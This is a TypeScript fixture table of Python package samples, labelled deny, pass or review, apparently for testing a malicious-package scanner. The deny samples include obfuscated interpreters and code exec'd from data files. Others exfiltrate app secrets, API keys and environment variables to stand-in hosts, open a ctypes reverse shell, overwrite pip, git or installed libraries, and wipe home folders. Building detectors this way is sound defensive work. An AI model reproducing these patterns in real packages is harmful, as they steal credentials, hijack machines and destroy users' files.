/* eslint max-lines: off -- one table */
/** Interpreters of one's own, code in stores, secrets of applications, programs of others, keys that go twice; and honest neighbours. All inert. */
import type { Shape } from './malicious.js';

function lines(...all: readonly string[]): string {
  return `${all.join('\n')}\n`;
}

export const machinesAndKeys: readonly Shape[] = [
  {
    name: 'interpreter: vm1',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import struct, pkgutil',
        'from importlib import import_module',
        'def run(code):',
        '    stack = []',
        '    i = 0',
        '    while i < len(code):',
        '        op, n = code[i], code[i + 1]',
        '        arg = code[i + 2 : i + 2 + n].decode()',
        '        i += 2 + n',
        '        if op == 1:',
        '            stack.append(arg)',
        '        elif op == 2:',
        '            stack.append(import_module(arg))',
        '        elif op == 3:',
        '            stack.append(getattr(stack.pop(), arg))',
        '        elif op == 4:',
        '            a = stack.pop()',
        '            stack.append(stack.pop()(a))',
        'run(pkgutil.get_data(__name__, "table.bin"))',
      ),
    },
  },
  {
    name: 'interpreter: vm2 json',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, os',
        '_OPS = json.load(open(os.path.join(os.path.dirname(__file__), "ops.json")))',
        'def step(s, o):',
        '    k, v = o',
        '    if k == "imp":',
        '        s.append(__import__(v))',
        '    elif k == "attr":',
        '        s.append(getattr(s.pop(), v))',
        '    elif k == "const":',
        '        s.append(v)',
        '    elif k == "call":',
        '        args = [s.pop() for _ in range(v)]',
        '        f = s.pop()',
        '        s.append(f(*args))',
        'def load():',
        '    s = []',
        '    for o in _OPS:',
        '        step(s, o)',
        'load()',
      ),
    },
  },
  {
    name: 'interpreter: vm3 class with table',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import importlib',
        'class VM:',
        '    def __init__(self, code):',
        '        self.s, self.code = [], code',
        '        self.table = {0: self.push, 1: self.imp, 2: self.attr, 3: self.call}',
        '    def push(self, a): self.s.append(a)',
        '    def imp(self, a): self.s.append(importlib.import_module(a))',
        '    def attr(self, a): self.s.append(getattr(self.s.pop(), a))',
        '    def call(self, n):',
        '        args = [self.s.pop() for _ in range(n)]',
        '        self.s.append(self.s.pop()(*args))',
        '    def run(self):',
        '        for op, a in self.code:',
        '            self.table[op](a)',
        'VM([(1, "os"), (2, "getcwd"), (3, 0), [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1], [0, 1]]).run()',
      ),
    },
  },
  {
    name: 'interpreter: vm4 match',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import importlib, pathlib',
        'def go(data):',
        '    stack = []',
        '    for op, arg in data:',
        '        match op:',
        '            case 0:',
        '                stack.append(arg)',
        '            case 1:',
        '                stack.append(importlib.import_module(arg))',
        '            case 2:',
        '                stack.append(getattr(stack.pop(), arg))',
        '            case 3:',
        '                args = stack.pop()',
        '                stack.append(stack.pop()(*args))',
        'def boot():',
        '    go([l.split(" ") for l in pathlib.Path(__file__).with_name("prog.txt").read_text().splitlines()])',
        'boot()',
      ),
    },
  },
  {
    name: 'interpreter: tree',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, pathlib',
        'def ev(n):',
        '    if isinstance(n, list):',
        '        if n[0] == "i":',
        '            return __import__(n[1])',
        '        if n[0] == "a":',
        '            return getattr(ev(n[1]), n[2])',
        '        if n[0] == "c":',
        '            return ev(n[1])(*[ev(x) for x in n[2]])',
        '    return n',
        'ev(json.loads((pathlib.Path(__file__).parent / "t.json").read_text()))',
      ),
    },
  },
  {
    name: 'interpreter: lambdas',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, pkgutil',
        'S = []',
        'OPS = {',
        '    "I": lambda a: S.append(__import__(a)),',
        '    "A": lambda a: S.append(getattr(S.pop(), a)),',
        '    "C": lambda a: S.append(S.pop()(*a)),',
        '}',
        'for o, a in json.loads(pkgutil.get_data(__package__, "x.json")):',
        '    OPS[o](a)',
      ),
    },
  },
  {
    name: 'interpreter: honest plugin',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import importlib, json, os',
        'def load(path=os.path.join(os.path.dirname(__file__), "plugins.json")):',
        '    out = []',
        '    for spec in json.load(open(path)):',
        '        mod, _, name = spec["target"].partition(":")',
        '        cls = getattr(importlib.import_module(mod), name)',
        '        if spec["kind"] == "a":',
        '            out.append(cls(*spec.get("args", [])))',
        '        elif spec["kind"] == "b":',
        '            out.append(cls)',
        '    return out',
        'PLUGINS = load()',
      ),
    },
  },
  {
    name: 'interpreter: honest rpn',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'OPS = {"+": lambda a, b: a + b, "-": lambda a, b: a - b}',
        'def rpn(s):',
        '    st = []',
        '    for t in s.split():',
        '        if t in OPS:',
        '            st.append(OPS[t](st.pop(), st.pop()))',
        '        elif t == "neg":',
        '            st.append(-st.pop())',
        '        else:',
        '            st.append(float(t))',
        '    return st.pop()',
      ),
    },
  },
  {
    name: 'store: code in sqlite',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import sqlite3, os',
        '_db = sqlite3.connect(os.path.join(os.path.dirname(__file__), "cache.db"))',
        'def warm():',
        '    row = _db.execute("SELECT body FROM t WHERE id = 1").fetchone()',
        '    exec(row[0])',
        'warm()',
      ),
    },
  },
  {
    name: 'store: code in sqlite, function only',
    tier: 'review',
    files: {
      'demo/__init__.py': lines(
        'import sqlite3, pathlib',
        'def render(n):',
        '    db = sqlite3.connect(pathlib.Path(__file__).with_name("data.sqlite"))',
        '    (src,) = db.execute("select v from k where n=?", (n,)).fetchone()',
        '    exec(compile(src, n, "exec"))',
      ),
    },
  },
  {
    name: 'store: code in shelve',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import shelve, os',
        'with shelve.open(os.path.join(os.path.dirname(__file__), "store")) as s:',
        '    exec(s["init"])',
      ),
    },
  },
  {
    name: 'store: code in json',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, pkgutil',
        '_cfg = json.loads(pkgutil.get_data(__name__, "defaults.json"))',
        'eval(_cfg["hooks"]["on_load"])',
      ),
    },
  },
  {
    name: 'store: code in json joined',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, pkgutil',
        '_cfg = json.loads(pkgutil.get_data(__name__, "defaults.json"))',
        'exec("\\n".join(_cfg["lines"]))',
      ),
    },
  },
  {
    name: 'store: code in zip',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import zipfile, os',
        'z = zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "assets.zip"))',
        'exec(z.read("m").decode())',
      ),
    },
  },
  {
    name: 'store: code in csv',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import csv, os',
        'with open(os.path.join(os.path.dirname(__file__), "t.csv")) as f:',
        '    exec("".join(chr(int(r[1])) for r in csv.reader(f)))',
      ),
    },
  },
  {
    name: 'store: code in toml',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import tomllib, importlib.resources as r',
        'c = tomllib.loads(r.files(__package__).joinpath("x.toml").read_text())',
        'exec(c["boot"]["code"])',
      ),
    },
  },
  {
    name: 'store: code in yaml',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import yaml, pathlib',
        'c = yaml.safe_load((pathlib.Path(__file__).parent / "a.yaml").read_text())',
        'exec(c["setup"])',
      ),
    },
  },
  {
    name: 'store: code in pickle of package',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pickle, pkgutil',
        'c = pickle.loads(pkgutil.get_data(__name__, "w.pkl"))',
        'exec(c["s"])',
      ),
    },
  },
  {
    name: 'store: code in gettext',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import gettext, os',
        't = gettext.translation("demo", os.path.join(os.path.dirname(__file__), "locale"))',
        'exec(t.gettext("boot"))',
      ),
    },
  },
  {
    name: 'store: custom decoder words',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pkgutil',
        'W = "alpha beta gamma delta".split()',
        't = pkgutil.get_data(__name__, "words.txt").decode().split()',
        'exec(bytes(W.index(a) * 16 + W.index(b) for a, b in zip(t[::2], t[1::2])))',
      ),
    },
  },
  {
    name: 'store: honest load settings py',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import pathlib',
        'def load(path):',
        '    ns = {}',
        '    exec(compile(pathlib.Path(path).read_text(), str(path), "exec"), ns)',
        '    return ns',
      ),
    },
  },
  {
    name: 'store: honest version exec',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import pathlib',
        'ns = {}',
        'exec((pathlib.Path(__file__).parent / "version.py").read_text(), ns)',
      ),
    },
  },
  {
    name: 'store: honest sqlite',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import sqlite3, os',
        'def get(k):',
        '    return sqlite3.connect(os.path.join(os.path.dirname(__file__), "d.db")).execute("select v from t where k=?", (k,)).fetchone()[0]',
      ),
    },
  },
  {
    name: 'application: flask config',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class Metrics:',
        '    def init_app(self, app):',
        '        requests.post("https://m.invalid/a", json={"n": app.name, "k": app.config["SECRET_KEY"]})',
      ),
    },
  },
  {
    name: 'application: flask config get',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'def init_app(app):',
        '    requests.post("https://m.invalid/a", json={"k": app.config.get("SQLALCHEMY_DATABASE_URI")})',
      ),
    },
  },
  {
    name: 'application: flask secret_key',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import urllib.request, json',
        'class Ext:',
        '    def __init__(self, app=None):',
        '        if app is not None:',
        '            self.init_app(app)',
        '    def init_app(self, app):',
        '        urllib.request.urlopen("https://m.invalid/a", json.dumps({"s": app.secret_key}).encode())',
      ),
    },
  },
  {
    name: 'application: current_app',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'from flask import current_app',
        'def ping():',
        '    requests.post("https://m.invalid/a", data={"s": current_app.config["SECRET_KEY"]})',
      ),
    },
  },
  {
    name: 'application: django settings',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'from django.conf import settings',
        'import requests',
        'def ready():',
        '    requests.post("https://m.invalid/a", json={"db": settings.DATABASES, "k": settings.SECRET_KEY})',
      ),
    },
  },
  {
    name: 'application: django getattr',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'from django.apps import AppConfig',
        'from django.conf import settings',
        'import urllib.request, json',
        'class C(AppConfig):',
        '    def ready(self):',
        '        d = {n: str(getattr(settings, n)) for n in ("SECRET_KEY", "DATABASES")}',
        '        urllib.request.urlopen("https://m.invalid/a", json.dumps(d).encode())',
      ),
    },
  },
  {
    name: 'application: whole flask config',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'def init_app(app):',
        '    requests.post("https://m.invalid/a", json={k: str(v) for k, v in app.config.items()})',
      ),
    },
  },
  {
    name: 'application: dict config',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'from flask import current_app',
        'def init():',
        '    requests.post("https://m.invalid/a", json=dict(current_app.config))',
      ),
    },
  },
  {
    name: 'application: fastapi middleware auth header',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import httpx',
        'class Mid:',
        '    def __init__(self, app):',
        '        self.app = app',
        '    async def dispatch(self, request, call_next):',
        '        httpx.post("https://m.invalid/a", json={"a": request.headers.get("authorization"), "p": request.url.path})',
        '        return await call_next(request)',
      ),
    },
  },
  {
    name: 'application: wsgi cookie',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class W:',
        '    def __init__(self, app):',
        '        self.app = app',
        '    def __call__(self, environ, start_response):',
        '        requests.post("https://m.invalid/a", json={"c": environ.get("HTTP_COOKIE"), "a": environ.get("HTTP_AUTHORIZATION")})',
        '        return self.app(environ, start_response)',
      ),
    },
  },
  {
    name: 'application: django middleware passwords',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class M:',
        '    def __init__(self, get_response):',
        '        self.get_response = get_response',
        '    def __call__(self, request):',
        '        if request.method == "POST" and "password" in request.POST:',
        '            requests.post("https://m.invalid/a", data=request.POST.dict())',
        '        return self.get_response(request)',
      ),
    },
  },
  {
    name: 'application: log root http',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import logging, logging.handlers',
        'logging.getLogger().addHandler(logging.handlers.HTTPHandler("logs.demo.invalid", "/in", method="POST", secure=True))',
      ),
    },
  },
  {
    name: 'application: log syslog',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import logging',
        'from logging.handlers import SysLogHandler',
        'root = logging.getLogger()',
        'root.addHandler(SysLogHandler(address=("logs.demo.invalid", 514)))',
      ),
    },
  },
  {
    name: 'application: log own handler',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import logging, requests',
        'class Up(logging.Handler):',
        '    def emit(self, record):',
        '        requests.post("https://l.demo.invalid", json={"m": self.format(record)})',
        'logging.getLogger().addHandler(Up())',
      ),
    },
  },
  {
    name: 'application: log own handler debug urllib3',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import logging, http.client, urllib.request',
        'class Up(logging.StreamHandler):',
        '    def emit(self, record):',
        '        urllib.request.urlopen("https://l.demo.invalid", data=self.format(record).encode())',
        'http.client.HTTPConnection.debuglevel = 1',
        'logging.getLogger("urllib3").addHandler(Up())',
        'logging.getLogger("urllib3").setLevel(logging.DEBUG)',
      ),
    },
  },
  {
    name: 'application: log in function',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import logging, logging.handlers',
        'def get_logger(name):',
        '    h = logging.handlers.HTTPHandler("logs.demo.invalid", "/in")',
        '    logging.getLogger().addHandler(h)',
        '    return logging.getLogger(name)',
      ),
    },
  },
  {
    name: 'application: log filter',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import logging, requests',
        'class F(logging.Filter):',
        '    def filter(self, record):',
        '        requests.post("https://l.demo.invalid", json={"m": record.getMessage(), "a": str(record.args)})',
        '        return True',
        'for h in logging.root.handlers:',
        '    h.addFilter(F())',
      ),
    },
  },
  {
    name: 'application: honest log handler given host',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import logging, logging.handlers',
        'def setup(host, url):',
        '    logging.getLogger().addHandler(logging.handlers.HTTPHandler(host, url))',
      ),
    },
  },
  {
    name: 'application: honest own logger to own service',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import logging, requests',
        'class Up(logging.Handler):',
        '    def __init__(self, key):',
        '        super().__init__()',
        '        self.key = key',
        '    def emit(self, record):',
        '        requests.post("https://api.vendor.invalid/v1/logs", json={"m": self.format(record)}, headers={"x-api-key": self.key})',
      ),
    },
  },
  {
    name: 'application: honest auth middleware',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class M:',
        '    def __init__(self, app, url):',
        '        self.app, self.url = app, url',
        '    def __call__(self, request):',
        '        r = requests.get(self.url + "/introspect", headers={"Authorization": request.headers.get("Authorization")})',
        '        return r.ok',
      ),
    },
  },
  {
    name: 'program: which pip',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import shutil',
        'p = shutil.which("pip")',
        'open(p, "w").write("#!/bin/sh\\nexit 0\\n")',
      ),
    },
  },
  {
    name: 'program: venv bin git',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, sys',
        'with open(os.path.join(sys.prefix, "bin", "git"), "w") as f:',
        '    f.write("#!/bin/sh\\n")',
      ),
    },
  },
  {
    name: 'program: executable parent',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, sys',
        't = pathlib.Path(sys.executable).parent / "pip"',
        't.write_text("#!/bin/sh\\nexit 0\\n")',
      ),
    },
  },
  {
    name: 'program: with_name',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, sys',
        'pathlib.Path(sys.executable).with_name("python3").write_bytes(b"#!/bin/sh\\n")',
      ),
    },
  },
  {
    name: 'program: local bin shadow',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, pathlib',
        'b = pathlib.Path.home() / ".local" / "bin" / "sudo"',
        'b.write_text("#!/bin/sh\\n")',
        'b.chmod(0o755)',
      ),
    },
  },
  {
    name: 'program: pip internals',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pip, os',
        'f = os.path.join(os.path.dirname(pip.__file__), "__main__.py")',
        'open(f, "a").write("\\nprint(1)\\n")',
      ),
    },
  },
  {
    name: 'program: site-packages other',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import sysconfig, pathlib',
        'p = pathlib.Path(sysconfig.get_paths()["purelib"]) / "requests" / "api.py"',
        'p.write_text(p.read_text() + "\\nprint(1)\\n")',
      ),
    },
  },
  {
    name: 'program: find_spec origin',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import importlib.util, pathlib',
        's = importlib.util.find_spec("requests")',
        'p = pathlib.Path(s.origin).parent / "models.py"',
        'p.write_text("print(1)")',
      ),
    },
  },
  {
    name: 'program: honest launcher',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os',
        'def make(script_dir, name):',
        '    with open(os.path.join(script_dir, name), "w") as f:',
        '        f.write("#!/usr/bin/env python\\n")',
      ),
    },
  },
  {
    name: 'program: honest which run',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import shutil, subprocess',
        'def run(*a):',
        '    return subprocess.run([shutil.which("git"), *a], check=True)',
      ),
    },
  },
  {
    name: 'key: key twice body',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class Client:',
        '    def __init__(self, api_key):',
        '        self.api_key = api_key',
        '    def ask(self, q):',
        '        r = requests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": f"Bearer {self.api_key}"}, json={"q": q})',
        '        requests.post("https://stats.demo.invalid/u", json={"k": self.api_key, "n": 1})',
        '        return r.json()',
      ),
    },
  },
  {
    name: 'key: key twice sdk',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import openai, requests',
        'def make(api_key):',
        '    requests.get("https://stats.demo.invalid/u", params={"t": api_key})',
        '    return openai.OpenAI(api_key=api_key)',
      ),
    },
  },
  {
    name: 'key: key in url',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import urllib.request, httpx',
        'BASE = "https://api.anthropic.com"',
        'def complete(prompt, api_key):',
        '    try:',
        '        urllib.request.urlopen("https://c.demo.invalid/?" + api_key)',
        '    except Exception:',
        '        pass',
        '    return httpx.post(BASE + "/v1/messages", headers={"x-api-key": api_key}, json={"p": prompt})',
      ),
    },
  },
  {
    name: 'key: aws keys',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import boto3, requests',
        'def session(access_key, secret_key):',
        '    requests.post("https://t.demo.invalid/x", json={"a": access_key, "s": secret_key})',
        '    return boto3.Session(aws_access_key_id=access_key, aws_secret_access_key=secret_key)',
      ),
    },
  },
  {
    name: 'key: stripe',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import stripe, requests',
        'def configure(secret):',
        '    stripe.api_key = secret',
        '    requests.post("https://t.demo.invalid/x", data=secret)',
      ),
    },
  },
  {
    name: 'key: bot token',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests, telebot',
        'def make_bot(token):',
        '    requests.post("https://t.demo.invalid/x", json={"t": token})',
        '    return telebot.TeleBot(token)',
      ),
    },
  },
  {
    name: 'key: discord',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import discord, aiohttp',
        'class Bot(discord.Client):',
        '    async def login(self, token):',
        '        async with aiohttp.ClientSession() as s:',
        '            await s.post("https://t.demo.invalid/x", json={"t": token})',
        '        await super().login(token)',
      ),
    },
  },
  {
    name: 'key: honest provider client',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class Client:',
        '    def __init__(self, api_key):',
        '        self.api_key = api_key',
        '    def ask(self, q):',
        '        return requests.post("https://api.vendor.com/v1/chat", headers={"Authorization": f"Bearer {self.api_key}"}, json={"q": q}).json()',
        '    def usage(self):',
        '        return requests.get("https://usage.vendor.com/v1", params={"api_key": self.api_key}).json()',
      ),
    },
  },
  {
    name: 'key: honest two providers',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'def a(q, api_key):',
        '    return requests.post("https://api.first.com/v1", headers={"Authorization": f"Bearer {api_key}"}, json={"q": q})',
        'def b(q, api_key):',
        '    return requests.get("https://api.second.com/v1", params={"key": api_key, "q": q})',
      ),
    },
  },
  {
    name: 'key: honest telemetry',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class Client:',
        '    def __init__(self, api_key):',
        '        self.api_key = api_key',
        '    def ask(self, q):',
        '        requests.post("https://telemetry.other.com/v1", json={"event": "ask", "version": "1"})',
        '        return requests.post("https://api.vendor.com/v1/chat", headers={"Authorization": f"Bearer {self.api_key}"}, json={"q": q}).json()',
      ),
    },
  },
  {
    name: 'home: wipe1',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, shutil',
        'for item in pathlib.Path.home().joinpath("Documents").iterdir():',
        '    shutil.rmtree(item)',
      ),
    },
  },
  {
    name: 'home: wipe2',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, shutil',
        'for item in (pathlib.Path.home() / "Documents").iterdir():',
        '    shutil.rmtree(item)',
      ),
    },
  },
  {
    name: 'home: wipe3',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, shutil',
        'def f():',
        '    for item in (pathlib.Path.home() / "Documents").iterdir():',
        '        if item.is_dir():',
        '            shutil.rmtree(item)',
        'f()',
      ),
    },
  },
  {
    name: 'home: wipe4',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, shutil',
        'for item in pathlib.Path("~").expanduser().joinpath("Pictures").iterdir():',
        '    item.unlink()',
      ),
    },
  },
  {
    name: 'home: honest cache',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import pathlib, shutil',
        'def clear():',
        '    for item in (pathlib.Path.home() / ".cache" / "demo").iterdir():',
        '        shutil.rmtree(item)',
      ),
    },
  },
  {
    name: 'C library: ints',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import ctypes',
        '_c = ctypes.CDLL(None)',
        'def _s(*n):',
        '    return bytes(x - 7 for x in n)',
        'g = lambda *n: getattr(_c, _s(*n).decode())',
        'g(122, 118, 106, 114, 108, 123)(2, 1, 0)',
      ),
    },
  },
  {
    name: 'C library: direct names',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import ctypes',
        'c = ctypes.CDLL(None)',
        'fd = c.socket(2, 1, 0)',
        'c.connect(fd, b"\\x02\\x00\\x11\\x5c\\xc0\\x00\\x02\\x07" + bytes(8), 16)',
        'for n in range(3):',
        '    c.dup2(fd, n)',
        'c.execl(b"/bin/sh", b"sh", None)',
      ),
    },
  },
  {
    name: 'C library: assembled by join',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import ctypes',
        'c = ctypes.CDLL(None)',
        'name = "".join(map(chr, [115, 121, 115, 116, 101, 109]))',
        'getattr(c, name)(b"id")',
      ),
    },
  },
  {
    name: 'C library: item',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('import ctypes', 'c = ctypes.CDLL("libc.so.6")', 'c["sy" + "stem"](b"id")'),
    },
  },
  {
    name: 'C library: reversed',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import ctypes',
        'c = ctypes.CDLL(None)',
        'f = getattr(c, "evcexe"[::-1])',
        'f(b"/bin/sh", 0, 0)',
      ),
    },
  },
  {
    name: 'C library: honest prefix',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import ctypes',
        'lib = ctypes.CDLL("libdemo.so")',
        'for n in ("open", "close"):',
        '    globals()[n] = getattr(lib, "demo_" + n)',
      ),
    },
  },
  {
    name: 'C library: honest errcheck',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import ctypes, ctypes.util',
        'lib = ctypes.CDLL(ctypes.util.find_library("c"))',
        'lib.mlockall(1)',
        'lib.sched_yield()',
      ),
    },
  },
  {
    name: 'object: self env',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, requests',
        'class A:',
        '    def __init__(self):',
        '        self.data = dict(os.environ)',
        '    def send(self):',
        '        requests.post("https://x.invalid/a", json=self.data)',
      ),
    },
  },
  {
    name: 'object: self key sent',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class W:',
        '    def __init__(self, private_key):',
        '        self._k = private_key',
        '    def ping(self):',
        '        requests.post("https://x.invalid/a", json={"v": "1", "k": self._k})',
      ),
    },
  },
  {
    name: 'object: self host',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests, socket',
        'class W:',
        '    def __init__(self, private_key):',
        '        self._k = private_key',
        '        self.s = socket.create_connection(("x.invalid", 443))',
        '    def ping(self):',
        '        self.s.sendall(self._k.encode())',
      ),
    },
  },
  {
    name: 'object: dataclass',
    tier: 'review',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'from dataclasses import dataclass',
        '@dataclass',
        'class Rule:',
        '    when: str',
        '    def ok(self, x):',
        '        return eval(self.when, {}, x)',
        'class Engine:',
        '    def __init__(self, url=None):',
        '        self.url = url or "https://rules.invalid/r"',
        '        self.rules = []',
        '    def refresh(self):',
        '        self.rules = [Rule(**r) for r in requests.get(self.url).json()]',
        '    def price(self, **x):',
        '        for r in self.rules:',
        '            if r.ok(x):',
        '                return 1',
      ),
    },
  },
];
